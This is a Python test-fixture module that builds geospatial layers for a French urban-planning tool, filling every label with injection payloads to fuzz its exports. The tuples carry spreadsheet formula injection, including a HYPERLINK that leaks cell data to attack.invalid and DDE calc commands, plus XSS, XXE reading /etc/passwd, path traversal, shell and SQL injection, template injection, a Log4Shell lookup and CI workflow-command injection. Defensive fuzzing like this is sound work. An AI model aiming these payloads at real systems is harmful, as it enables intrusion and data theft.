"""Hostile texts made from seeds, leads and wrappers, and a plan and network whose every text is one of them."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import count
from typing import Any, Final

import geopandas as gpd
import pandas as pd
import shapely

X, Y = 650_000.0, 7_090_000.0
#: set by whatever of a payload comes to run in a page
FLAG: Final = "window.__ran=1"
HOST: Final = "attack.invalid"
#: side of a cell of the grid of zones, metres: places far enough apart to be concerns of their own
STEP: Final = 400.0

_LEADS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    "＝",
    ";=",
    ",=",
    "|=",
    "%=",
    "\u200b=",
    "#",
)
_FORMULAS: Final = (
    "1+1",
    'HYPERLINK("http://attack.invalid/?"&A1,"ici")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://attack.invalid/")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://attack.invalid/\",A1),\"//a\")",
)  # fmt: skip
_HTML: Final = (
    "<script>{flag}</script>",
    "</script><script>{flag}</script>",
    "<ScRiPt/x>{flag}</sCrIpT >",
    "<img src=x onerror={flag}>",
    "<img src=http://attack.invalid/p.png>",
    "<svg onload={flag}>",
    "<svg><script>{flag}</script></svg>",
    "<iframe srcdoc='<script>{flag}</script>'></iframe>",
    "<body onload={flag}>",
    "<a href='javascript:{flag}'>x</a>",
    "<a href='data:text/html,<script>{flag}</script>'>x</a>",
    "<style>@import 'http://attack.invalid/s.css';</style>",
    "<link rel=stylesheet href=http://attack.invalid/s.css>",
    "<base href=http://attack.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://attack.invalid/'>",
    "<form action=http://attack.invalid/><input name=x autofocus onfocus={flag}></form>",
    "<details open ontoggle={flag}>x</details>",
    "<video><source onerror={flag}></video>",
    "<math href='javascript:{flag}'>x</math>",
    "<object data=http://attack.invalid/o></object>",
    "<template><script>{flag}</script></template>",
    "<!-- --><script>{flag}</script>",
    "<![CDATA[<script>{flag}</script>]]>",
    "<?php {flag} ?>",
    "<plaintext>",
    "<title></title><script>{flag}</script>",
    "<textarea></textarea><script>{flag}</script>",
)
_BREAKOUTS: Final = ("", '"', "'", '">', "'>", "--></script>", "]]>", "\\u003c", "`")
_MARKDOWN: Final = (
    "a | b | c", "||", "a\nb", "a\n\nb", "a\r\n# b", "`code`", "``", "```\ncode", "~~~\ncode", "[l](http://attack.invalid)",
    "![i](http://attack.invalid/i.png)", "[l][r]\n\n[r]: http://attack.invalid", "[r]: http://attack.invalid 'x'",
    "[^1]", "[^1]: note", "# title", "###### title", "title\n===", "title\n---", "---", "***", "___", "* item", "- item",
    "+ item", "1. item", "1) item", "> quote", "    code", "\tcode", "**b**", "__b__", "*i*", "_i_", "~~s~~", "$x^2$",
    "$$x$$", "<http://attack.invalid>", "<a@attack.invalid>", "http://attack.invalid/x", "www.attack.invalid",
    "a@attack.invalid", "<!-- x -->", "<b>b</b>", "&lt;b&gt;", "&#60;script&#62;", "&amp;", "\\", "\\|", "a\\",
    "- [ ] x", "| a |\n| --- |\n| b |", ":smile:", "#12", "@everyone", "<details>", "==m==", "a  \nb", "[[w]]", "[x]: <>",
    "{{< x >}}", "{% include x %}", "+++\na\n+++", "> | x", "\\`x\\`",
)  # fmt: skip
_XML: Final = (
    "]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "&#0;", "&#x1b;", "<?xml version='1.0'?>",
    "<w:fldSimple w:instr='DDEAUTO c:\\\\x'/>", "_x000D_", "_x003D_1+1", "</si><si>", "</testcase>", "<x/>", "&unknown;",
    "%pe;", "<xi:include href='file:///etc/passwd'/>",
)  # fmt: skip
_PATHS: Final = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "\\\\attack.invalid\\s", "CON", "NUL.txt",
    "aux", "COM1", "LPT9.txt", ".", "..", "...", "~", "~root", "a/b", "a\\b", "a:b", "a*b?", "-rf", "--help", "$HOME",
    "%PATH%", "`id`", "$(id)", "; rm -rf x", "| id", "&& id", "file:///etc/passwd", "/vsicurl/http://attack.invalid/x",
    "PG:host=attack.invalid", "a" * 300,
)  # fmt: skip
_FORMATS: Final = (
    "%s%s%s%n", "%(x)s", "%d", "{0}", "{}", "{x}", "{0.__class__}", "{zone.__class__.__mro__}", "{{7*7}}", "${7*7}", "#{7*7}",
    "{%raw%}", "{{config}}", "{{''.__class__.__mro__}}", "{# c #}", "<%= 7*7 %>", "{", "}", "}}", "{{", "{!r}", "{:>99999}",
    "{texts}", "%%", "%", "$$", "$", "$x_", "$\\frac{1}{0}$", "\\$", "a$b$c", "\\x", "\\u0041", "\\N{BEL}", "${jndi:ldap://attack.invalid/}",
)  # fmt: skip
_MARKS: Final = (
    "\u202egnp.exe", "\u2066x\u2069", "\u200bzero\u200bwidth", "\ufeffbom", "a\u0000b", "a\u0001b\u0008c", "\u001b[31mred\u001b[0m",
    "\u001b]0;title\u0007", "\u001b]8;;http://attack.invalid\u0007x", "\u009b31m", "\u0085next", "a\u2028b", "a\u2029b", "a\rb",
    "a\u000bb", "a\u000cb", "\u007f", "\ufffe", "\uffff", "\ufffd", "\U0001f33f\U0001f426", "e\u0301", "\u0340", "\u00ad", "\u061cx",
    "\u2060", "x" + "\u0301" * 60, "\U000e0041", "\ue000", "\u3164", "١٢٣", "ﬁ", "Ｌ", "ſ", "İ",
)  # fmt: skip
_OTHER: Final = (
    "::error::x", "::set-output name=x::y", "::stop-commands::t", "##[error]x", "%0A::error::x", "%0D%0A::warning file=x::y",
    "a\n::error::x", "::add-mask::x", "a,file=b::c", "'; DROP TABLE zones; --", '" OR 1=1 --', "x'); DELETE FROM layer_styles; --",
    '"x","y"\n"z"', "a;b;c", "null", "NaN", "true", "1e999", "-0", "0x41", "__proto__", "constructor", "javascript:alert(1)",
    "data:text/html,x", "vbscript:x", "mailto:a@attack.invalid", "//attack.invalid/x", "\"onmouseover=\"" + FLAG, "' onclick='" + FLAG,
    "');" + FLAG + "//", "\\\");" + FLAG + "//", "*/" + FLAG + "/*", "${" + FLAG + "}", "url(http://attack.invalid/u)",
    "expression(" + FLAG + ")",
)  # fmt: skip
#: what no file can hold: for frames alone
_LONE: Final = ("a\ud800b", "\udfff", "\udcff.shp")


def _seeds() -> Iterator[str]:
    for lead in _LEADS:
        for formula in _FORMULAS:
            yield lead + formula
    for markup in _HTML:
        payload = markup.replace("{flag}", FLAG)
        yield payload
        for n, breakout in enumerate(_BREAKOUTS):
            if (len(payload) + n) % 3 == 0:
                yield breakout + payload
    for family in (_MARKDOWN, _XML, _PATHS, _FORMATS, _MARKS, _OTHER):
        yield from family
        yield from (f"Zone {each} fin" for each in family[::4])
    yield "x" * 40_000
    yield "<b>" * 13_000
    yield "=" + "é" * 33_000


PAYLOADS: Final = tuple(dict.fromkeys(_seeds()))
LONE: Final = _LONE


def _objects(texts: Iterable[str]) -> Any:
    """Texts as they are: a column of strings would refuse lone surrogates."""
    return pd.Series(list(texts), dtype=object)


def _cell(n: int, wide: int) -> tuple[float, float]:
    return X + STEP * (n % wide), Y + STEP * (n // wide)


def zones(texts: tuple[str, ...], name: str = "ZONE_URBA", insee: tuple[str, ...] = ("59999",)) -> Any:
    """A zone to be urbanised a text: its label, long label and other columns are texts of the list."""
    wide = int(len(texts) ** 0.5) + 1
    boxes, turned = [], [*texts[7:], *texts[:7]]
    for n in range(len(texts)):
        x, y = _cell(n, wide)
        boxes.append(shapely.box(x, y, x + 300, y + 300))
    frame = gpd.GeoDataFrame(
        {
            "LIBELLE": _objects(texts), "LIBELONG": _objects(turned), "TYPEZONE": [("AUc", "U")[n % 2] for n in range(len(texts))],
            "INSEE": [insee[n % len(insee)] for n in range(len(texts))], "DATAPPRO": ["20250101"] * len(texts),
            "NOMFIC": _objects(turned), "URLFIC": _objects(texts),
        },
        geometry=boxes, crs="EPSG:2154",
    )  # fmt: skip
    frame.attrs["layer"] = name
    return frame


def reservoirs(texts: tuple[str, ...], name: str = "reservoirs_a_preserver") -> Any:
    """A reservoir a text, each over two thirds of the zone of the same number: name, id and columns are texts."""
    wide = int(len(texts) ** 0.5) + 1
    turned = [*texts[11:], *texts[:11]]
    boxes = []
    for n in range(len(texts)):
        x, y = _cell(n, wide)
        boxes.append(shapely.box(x + 100, y + 20, x + 320, y + 280))
    frame = gpd.GeoDataFrame(
        {"ID": _objects(turned), "NOM": _objects(turned), "TYPE": _objects(texts), "REMARQUE": _objects(texts)},
        geometry=boxes,
        crs="EPSG:2154",
    )
    frame.attrs["layer"] = name
    return frame


def points(texts: tuple[str, ...], name: str = "obstacles_corridors") -> Any:
    """An obstacle a text, in the middle of its zone."""
    wide = int(len(texts) ** 0.5) + 1
    spots = [shapely.Point(_cell(n, wide)[0] + 210, _cell(n, wide)[1] + 150) for n in range(len(texts))]
    frame = gpd.GeoDataFrame(
        {"ID": _objects(texts), "TYPE": _objects(texts), "NOM": _objects(texts)}, geometry=spots, crs="EPSG:2154"
    )
    frame.attrs["layer"] = name
    return frame


def corridors(texts: tuple[str, ...], name: str = "corridors_a_restaurer") -> Any:
    """A corridor a row of zones, through all of them."""
    wide = int(len(texts) ** 0.5) + 1
    rows = range(-(-len(texts) // wide))
    lines = [
        shapely.LineString([(X - 50, Y + STEP * n + 150), (X + STEP * wide, Y + STEP * n + 150)]) for n in rows
    ]  # fmt: skip
    named = [text for text, _ in zip(texts[3:], rows, strict=False)]
    frame = gpd.GeoDataFrame({"ID": named, "NOM": named}, geometry=lines, crs="EPSG:2154")
    frame.attrs["layer"] = name
    return frame


def prescriptions(texts: tuple[str, ...]) -> Any:
    """A protection a text, over a corner of its zone."""
    wide = int(len(texts) ** 0.5) + 1
    boxes = []
    for n in range(len(texts)):
        x, y = _cell(n, wide)
        boxes.append(shapely.box(x + 200, y + 200, x + 260, y + 260))
    return gpd.GeoDataFrame(
        {"LIBELLE": list(texts), "TXT": list(texts), "TYPEPSC": ["25"] * len(texts), "STYPEPSC": ["00"] * len(texts)},
        geometry=boxes, crs="EPSG:2154",
    )  # fmt: skip


def outlines(names: tuple[str, ...]) -> Any:
    """Communes side by side over the whole grid, named by texts."""
    numbers = count(1)
    boxes = [shapely.box(X - 500 + 1_000 * n, Y - 500, X + 500 + 1_000 * n, Y + 12_000) for n in range(len(names))]
    codes = [f"59{next(numbers):03d}" for _ in names]
    return gpd.GeoDataFrame(pd.DataFrame({"INSEE_COM": codes, "NOM_COM": list(names)}), geometry=boxes, crs="EPSG:2154")
